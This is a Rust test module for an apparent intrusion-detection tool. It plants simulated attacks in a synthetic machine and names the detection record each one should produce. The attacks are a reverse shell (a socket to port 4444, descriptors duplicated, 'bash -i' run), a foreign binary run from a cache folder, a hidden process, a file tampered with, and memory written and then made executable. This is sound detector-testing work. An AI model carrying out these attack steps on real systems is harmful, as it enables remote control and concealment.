//! Planted attacks: what each does in a machine, and which record must follow.

use std::net::{Ipv4Addr, SocketAddr};
use std::time::SystemTime;

use panoptes_decoders::kernel::vm_area_struct::{VM_EXEC, VM_NORESERVE, VM_READ, VM_WRITE};
use panoptes_synthetic::{Area, ForkOptions, Machine};

/// Kind of a plant.
#[derive(Clone, Copy, Debug, Eq, Hash, Ord, PartialEq, PartialOrd)]
pub(crate) enum Kind {
    ReverseShell,
    ForeignBinary,
    HiddenProcess,
    ChangedFile,
    /// Memory that a user's program wrote becomes executable, in what looks like the reserved
    /// space of a runtime.
    WrittenCode,
}

impl Kind {
    /// Those that are planted in quiet systems.
    pub(crate) const QUIET: [Self; 4] =
        [Self::ReverseShell, Self::ForeignBinary, Self::HiddenProcess, Self::ChangedFile];
    pub(crate) const ALL: [Self; 5] = [
        Self::ReverseShell,
        Self::ForeignBinary,
        Self::HiddenProcess,
        Self::ChangedFile,
        Self::WrittenCode,
    ];

    /// The activity that reports it.
    pub(crate) const fn activity(self) -> &'static str {
        match self {
            Self::ReverseShell => "reverse_shell_detected",
            Self::ForeignBinary => "foreign_binary_executed",
            Self::HiddenProcess => "process_hidden",
            Self::ChangedFile => "file_descriptor_file_content_change",
            Self::WrittenCode => "executable_permissions_added",
        }
    }
}

/// A planted attack.
#[derive(Clone, Debug)]
pub(crate) struct Plant {
    pub(crate) kind: Kind,
    pub(crate) system: String,
    /// The process that the record names.
    pub(crate) pid: u32,
    pub(crate) at: SystemTime,
}

/// A process with a file that it will change.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Editor {
    pid: u32,
    descriptor: u32,
    number: u32,
}

/// Starts a process that opens a file. The watcher must see the descriptor before the change.
pub(crate) fn editor(machine: &mut Machine, number: u32) -> Editor {
    let pid = machine.fork(1);
    machine.exec(pid, "/usr/bin/editor", &["editor"]);
    let path = edited(number);
    machine.write_file(&path, b"before\n");
    let descriptor = machine.open(pid, &path);
    Editor { pid, descriptor, number }
}

fn edited(number: u32) -> String {
    format!("/etc/conf.d/{number}")
}

impl Editor {
    /// Its process.
    pub(crate) const fn pid(self) -> u32 {
        self.pid
    }
}

/// Plants an attack of a user in one of the machine's containers (0: the machine itself); returns
/// the process that the record must name.
pub(crate) fn plant(
    machine: &mut Machine,
    kind: Kind,
    number: u32,
    editor: Editor,
    container: usize,
) -> u32 {
    let options = ForkOptions { container, uid: 1000, new_session: true };
    let pid = match kind {
        Kind::ReverseShell => {
            let pid = machine.fork_with(1, options);
            let source = SocketAddr::from((Ipv4Addr::new(10, 0, 2, 15), 50_000 + number as u16));
            let peer = SocketAddr::from((Ipv4Addr::new(203, 0, 113, 9), 4444));
            let socket = machine.connect(pid, source, peer);
            for standard in 0..3 {
                machine.dup2(pid, socket, standard);
            }
            machine.exec(pid, "/usr/bin/bash", &["bash", "-i"]);
            pid
        }
        Kind::ForeignBinary => {
            let path = format!("/home/user/.cache/{number}");
            let content: Vec<u8> =
                b"\x7fELF stranger ".iter().copied().cycle().take(5000 + number as usize).collect();
            machine.write_file(&path, &content);
            let pid = machine.fork_with(1, options);
            machine.exec(pid, &path, &[&path]);
            pid
        }
        Kind::HiddenProcess => {
            let pid = machine.fork_with(1, options);
            machine.exec(pid, "/usr/bin/sleep", &["sleep", "1000"]);
            machine.hide(pid);
            pid
        }
        Kind::ChangedFile => {
            machine.write_file(&edited(editor.number), b"what an attacker wrote\n");
            machine.close(editor.pid, editor.descriptor);
            editor.pid
        }
        Kind::WrittenCode => {
            let path = format!("/home/user/.cache/{number}");
            machine.set_size(&path, 16 << 10);
            machine.give_file(&path, options.uid);
            let pid = machine.fork_with(1, options);
            machine.exec(pid, &path, &[&path]);
            write_code(machine, pid);
            pid
        }
    };
    machine.memory().flush();
    pid
}

/// Reserves address space around an area as a runtime does, writes to it, and makes it executable.
fn write_code(machine: &mut Machine, pid: u32) {
    const START: u64 = 0x2000_0000_0000;
    const CODE: u64 = START + (16 << 20);
    const CODE_END: u64 = CODE + (64 << 10);
    let area = |start, end, flags| Area { start, end, flags, ..Area::default() };
    let areas = [
        area(START, CODE, VM_NORESERVE),
        area(CODE, CODE_END, VM_READ | VM_WRITE | VM_NORESERVE),
        area(CODE_END, CODE_END + (16 << 20), VM_NORESERVE),
    ];
    machine.map(pid, &areas);
    machine.write_to_area(pid, CODE);
    machine.protect(pid, CODE, VM_READ | VM_EXEC | VM_NORESERVE);
}
